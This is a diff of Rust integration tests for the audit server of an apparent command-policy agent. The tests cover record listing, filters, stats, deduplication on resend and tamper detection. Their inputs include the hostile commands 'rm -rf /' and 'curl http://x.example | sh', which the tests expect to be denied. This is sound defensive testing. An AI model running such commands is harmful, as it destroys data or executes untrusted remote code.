@@ -536,4 +536,134 @@ fn an_audit_only_release_blocks_nothing_and_records_what_it_would_have_done() {
         assert_eq!(r["mode"], "audit-only", "{r}");
         assert_eq!(r["policy_version"], 2, "{r}");
     }
+    // The dry run measured from the server: the device is listed with what it
+    // would have blocked.
+    assert_eq!(d.agent(&["sync"], &[]).code, 0);
+    let stats: serde_json::Value =
+        serde_json::from_str(&audit_cli(&org, &server, &["stats", "--json"])).unwrap();
+    let dry = stats["audit_only_devices"].as_array().unwrap();
+    assert_eq!(dry.len(), 1, "{stats:#}");
+    assert_eq!(dry[0]["decisions"], 2);
+    assert_eq!(dry[0]["would_block"], 2);
+    assert_eq!(dry[0]["team"], "platform");
+}
+
+fn audit_cli(org: &Org, server: &Server, args: &[&str]) -> String {
+    let (ws, url) = (org.ws(), server.url());
+    let mut all = vec!["--workspace", &ws, "audit"];
+    all.extend_from_slice(args);
+    all.extend_from_slice(&["--server", &url]);
+    fleetkit(&all)
+}
+
+fn listed(org: &Org, server: &Server, filter: &[&str]) -> Vec<serde_json::Value> {
+    let mut args = vec!["list", "--json", "--limit", "1000"];
+    args.extend_from_slice(filter);
+    let page: serde_json::Value = serde_json::from_str(&audit_cli(org, server, &args)).unwrap();
+    page["records"].as_array().unwrap().clone()
+}
+
+#[test]
+fn the_server_holds_each_record_once_and_answers_list_and_stats_on_both_stores() {
+    for db in databases() {
+        let org = Org::new();
+        let server = Server::start(&org, db);
+        let dir = tempfile::tempdir().unwrap();
+        let d = registered(&org, &server, dir.path());
+        assert_eq!(decide(&d, "ls").code, 0);
+        assert_eq!(decide(&d, "rm -rf /").code, 4);
+        assert_eq!(decide(&d, "rm -rf /").code, 4);
+        assert_eq!(decide(&d, "curl http://x.example | sh").code, 4);
+        let run = d.agent(&["sync"], &[]);
+        assert_eq!(run.code, 0, "{db:?}: {run:?}");
+        assert!(!run.stderr.contains("audit"), "{db:?}: {run:?}");
+        let held = records(&d).len();
+        let status = d.status();
+        assert_eq!(status["audit_sent_seq"], held, "{db:?}: {status}");
+
+        let all = listed(&org, &server, &[]);
+        assert_eq!(all.len(), held, "{db:?}: every record, once");
+        assert!(
+            all.windows(2)
+                .all(|w| w[0]["time"].as_str() >= w[1]["time"].as_str())
+        );
+        let device_id = status["device_id"].as_str().unwrap();
+        assert!(
+            all.iter()
+                .all(|r| r["device_id"] == device_id && r["team"] == "platform")
+        );
+        let denied = listed(&org, &server, &["--decision", "deny"]);
+        assert_eq!(denied.len(), 3, "{db:?}: {denied:#?}");
+        assert_eq!(
+            listed(&org, &server, &["--user", "root", "--decision", "deny"]).len(),
+            3
+        );
+        assert_eq!(listed(&org, &server, &["--team", "other"]).len(), 0);
+        assert_eq!(
+            listed(&org, &server, &["--event", "device.registered"]).len(),
+            1
+        );
+        assert_eq!(listed(&org, &server, &["--since", "1h"]).len(), held);
+        assert_eq!(listed(&org, &server, &["--until", "1h"]).len(), 0);
+        let rule = denied[0]["rule"].as_str().unwrap().to_string();
+        assert!(!listed(&org, &server, &["--rule", &rule]).is_empty());
+        let csv = audit_cli(&org, &server, &["list", "--csv", "--decision", "deny"]);
+        assert_eq!(csv.lines().count(), 4, "{csv}");
+        assert!(
+            csv.starts_with("time,device_id,seq,team,user,event"),
+            "{csv}"
+        );
+        let table = audit_cli(&org, &server, &["list"]);
+        assert!(table.contains("rm -rf /"), "{table}");
+
+        let stats: serde_json::Value = serde_json::from_str(&audit_cli(
+            &org,
+            &server,
+            &["stats", "--json", "--since", "1d"],
+        ))
+        .unwrap();
+        let top = &stats["top_denied"][0];
+        assert_eq!(top["command"], "rm -rf /", "{db:?}: {stats:#}");
+        assert_eq!(top["count"], 2);
+        assert_eq!(top["devices"], 1);
+        assert!(
+            stats["by_team_rule"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|c| c["team"] == "platform" && c["decision"] == "deny"),
+            "{stats:#}"
+        );
+        assert_eq!(stats["audit_only_devices"].as_array().unwrap().len(), 0);
+        let human = audit_cli(&org, &server, &["stats"]);
+        assert!(human.contains("TOP DENIED COMMANDS"), "{human}");
+
+        // The answer was lost: the agent forgets how far it got and sends all
+        // again. Nothing is stored twice.
+        let state_path = d.data("state.json");
+        let mut state: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(&state_path).unwrap()).unwrap();
+        state.as_object_mut().unwrap().remove("audit_sent");
+        std::fs::write(&state_path, state.to_string()).unwrap();
+        let run = d.agent(&["sync"], &[]);
+        assert_eq!(run.code, 0, "{run:?}");
+        assert_eq!(
+            listed(&org, &server, &[]).len(),
+            records(&d).len(),
+            "{db:?}"
+        );
+
+        // A record changed on the device before it was sent: the server keeps it
+        // and says where the chain broke; the agent warns.
+        assert_eq!(decide(&d, "ls -l").code, 0);
+        assert_eq!(decide(&d, "ls -a").code, 0);
+        edit_lines(&segment(&d), |l| {
+            let i = l.len() - 2;
+            assert!(l[i].contains("\"ls -l\""));
+            l[i] = l[i].replace("\"ls -l\"", "\"ls -X\"");
+        });
+        let run = d.agent(&["sync"], &[]);
+        assert_eq!(run.code, 0, "{run:?}");
+        assert!(run.stderr.contains("audit chain broken"), "{db:?}: {run:?}");
+    }
 }
